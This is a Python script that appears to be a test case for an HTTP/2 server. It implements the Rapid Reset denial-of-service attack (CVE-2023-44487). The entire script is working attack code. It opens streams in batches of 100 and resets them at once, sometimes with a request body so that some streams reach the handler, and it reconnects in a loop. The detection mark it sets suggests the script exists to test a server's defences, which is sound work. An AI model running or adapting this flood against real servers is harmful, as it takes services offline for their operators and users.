#!/usr/bin/python3
"""Rapid reset (CVE-2023-44487): a call opened and reset at once, as fast as frames go: it never counts as concurrent."""
from attacker import Peer, echo, h2, headers, main

MARK = ("http2.flood_resets",)
ENDED = True


def attack(run):
    whole = True  # with and without a whole request in between: the second reaches the handler
    while run.going():
        peer, stream = Peer(run), 1
        while run.going():
            batch = b""
            for _ in range(100):
                batch += headers(stream) + (h2.frame(h2.DATA, h2.END_STREAM, stream, echo(b"x")) if whole else b"")
                batch += h2.frame(h2.RST, 0, stream, (8).to_bytes(4, "big"))
                stream += 2
            if not peer.send(batch, 300 if whole else 200):
                break
        peer.wait(2)
        peer.close()
        whole = not whole


if __name__ == "__main__":
    main(attack)
